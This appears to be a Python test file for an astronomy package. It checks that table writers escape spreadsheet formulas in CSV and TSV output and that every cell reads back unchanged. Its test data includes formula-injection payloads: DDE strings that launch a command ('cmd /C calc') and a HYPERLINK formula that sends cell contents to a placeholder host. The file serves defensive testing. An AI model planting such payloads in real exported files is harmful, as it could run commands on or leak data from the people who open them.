"""What was asked to be safe is not calculated by a spreadsheet, and every cell is read as it was."""

import csv
from pathlib import Path

import numpy as np
import pyarrow as pa
import pytest
from astropy.table import MaskedColumn, Table
from hypothesis import given
from hypothesis import strategies as st

from skylobe.core.spreadsheets import as_cell, of_cell
from skylobe.core.table_writing import TEXTS, write_parts, write_table
from skylobe.core.tables import read_catalogue

LIVE = "=+@-\t\r＝＋＠－"
EVIL = [
    '=HYPERLINK("http://a.example/?"&A1,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "'=1",
    "''+1",
    "＝1+1",
    "-",
]
PLAIN = ["-12.5", "-1e-3", "J1345+23", "'tis", "12", "a=b", "-inf", "'"]
texts = st.text(st.sampled_from("='+@-1.5ea\t＝－ \"\n,;#é"), max_size=8)


@given(text=texts | st.text(max_size=20), safe=st.booleans())
def test_a_cell_is_read_as_it_was(text, safe):
    assert of_cell(as_cell(text, safe=safe)) == text


@given(text=texts)
def test_a_safe_cell_begins_with_no_sign_that_is_calculated(text):
    cell = as_cell(text, safe=True)
    if cell and cell[0] in LIVE:
        assert cell[0] == "-"
        float(cell)


def test_what_is_calculated_is_marked_and_nothing_else():
    assert [as_cell(one, safe=True) for one in EVIL] == [f"'{one}" for one in EVIL]
    assert [as_cell(one, safe=True) for one in PLAIN] == PLAIN
    assert as_cell(EVIL[0], safe=False) == EVIL[0]


def as_parts(table: Table, path: Path, kind: str, *, spreadsheet_safe: bool) -> None:
    """Write a table in two parts."""
    whole = pa.table({name: table[name].tolist() for name in table.colnames})
    parts = [whole.slice(0, 2), whole.slice(2)]
    write_parts(parts, whole.schema, path, kind, spreadsheet_safe=spreadsheet_safe)


@pytest.mark.parametrize("safe", [True, False])
@pytest.mark.parametrize("kind", TEXTS)
@pytest.mark.parametrize("write", [write_table, as_parts])
def test_tables_keep_their_cells_and_names(write, kind, safe, tmp_path):
    cells = EVIL + PLAIN
    table = Table({"id": [f"S{row}" for row in range(len(cells))], "=note": cells})
    table["=flux"] = -np.arange(len(cells)) * 0.5
    path = tmp_path / f"t.{kind}"
    write(table, path, kind, spreadsheet_safe=safe)
    found = read_catalogue(path)
    assert list(found.columns) == ["id", "=note", "=flux"]
    assert found["=note"].texts().tolist() == cells
    np.testing.assert_array_equal(found["=flux"].numbers(), table["=flux"])
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file, delimiter="\t" if kind == "tsv" else ","))
    live = [cell for row in rows for cell in row if cell[:1] in tuple(LIVE)]
    assert all(cell[0] == "-" and float(cell) <= 0 for cell in live) is safe


@pytest.mark.parametrize("kind", TEXTS)
def test_what_is_missing_stays_missing(kind, tmp_path):
    column = MaskedColumn(["=1", "", "a"], mask=[False, True, False])
    write_table(Table({"id": ["A", "B", "C"], "note": column}), tmp_path / f"t.{kind}", kind)
    found = read_catalogue(tmp_path / f"t.{kind}")
    assert found["note"].texts().tolist() == ["=1", "", "a"]
    assert found["note"].missing.tolist() == [False, True, False]
